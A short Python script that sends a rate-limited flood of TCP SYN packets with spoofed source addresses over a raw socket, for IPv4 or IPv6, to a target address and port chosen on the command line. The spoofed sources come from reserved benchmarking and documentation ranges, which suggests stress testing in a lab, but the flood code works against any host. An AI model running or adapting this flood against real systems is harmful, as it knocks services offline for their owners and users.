#!/usr/bin/python3 -ES
# SPDX-License-Identifier: MIT
"""Sends SYNs from addresses that nobody has.

Usage: synflood.py DEVICE MAC ADDRESS PORT PER-SECOND
       MAC: of the next hop on DEVICE; runs until it is ended
"""
import os
import random
import socket
import struct
import sys
import time

from inet import checksum

TCP_SYN = 2
MSS = b"\x02\x04\x05\xb4"


def syn(source, target, port):
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port,
                      random.getrandbits(32), 0, 6 << 4, TCP_SYN, 64240, 0,
                      0) + MSS
    pseudo = source + target + struct.pack("!HH", 6, len(tcp))
    return tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]


def packet4(target, port):
    # 198.18.0.0/15 is set aside for tests (RFC 2544).
    source = bytes([198, random.choice((18, 19)), random.getrandbits(8),
                    random.randrange(1, 255)])
    tcp = syn(source, target, port)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp),
                       random.getrandbits(16), 0, 64, 6, 0) + source + target
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + tcp


def packet6(target, port):
    source = socket.inet_pton(socket.AF_INET6, "2001:db8:ff::")[:8] + \
        os.urandom(8)
    tcp = syn(source, target, port)
    return struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + source + target + \
        tcp


def main(device, mac, address, port, rate):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((device, 0))
    ether = bytes.fromhex(mac.replace(":", "")) + sock.getsockname()[4]
    if ":" in address:
        family, packet, ether = socket.AF_INET6, packet6, ether + b"\x86\xdd"
    else:
        family, packet, ether = socket.AF_INET, packet4, ether + b"\x08\x00"
    target = socket.inet_pton(family, address)
    start = time.monotonic()
    sent = 0
    while True:
        if sent > (time.monotonic() - start) * int(rate):
            time.sleep(0.002)
            continue
        sock.send(ether + packet(target, int(port)))
        sent += 1


main(*sys.argv[1:])
